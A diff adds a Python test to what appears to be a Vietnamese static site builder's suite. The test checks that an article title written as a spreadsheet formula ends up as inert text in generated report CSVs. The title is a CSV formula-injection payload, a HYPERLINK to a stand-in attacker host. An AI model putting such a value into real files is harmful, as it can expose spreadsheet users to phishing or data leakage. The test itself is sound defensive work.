@@ -244,3 +244,17 @@ def test_a_data_file_that_is_not_a_plain_file_is_never_read(site, kind):
     else:
         os.symlink("/dev/zero" if kind == "symlink-dev-zero" else site.outside / CANARY_NAME, target)
     site.assert_refused(site.build(), "content/data/co-quan.yaml: là liên kết tượng trưng (symlink) hoặc tệp đặc biệt")
+
+
+def test_a_title_that_looks_like_a_formula_is_text_in_the_report_csv(site):
+    """The plan's report CSVs list editors' titles; Excel must not run one as a formula."""
+    site.write("articles/2026/cong-thuc.md", hostile_article(
+        title='=HYPERLINK("https://evil.example/?x","Bấm vào đây")', extra="nhiem_vu: 04"))
+    result = site.build()
+    site.assert_inert(result)
+    import csv
+
+    cells = [cell for path in site.output.rglob("*.csv")
+             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells), "the title is in no report CSV"
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
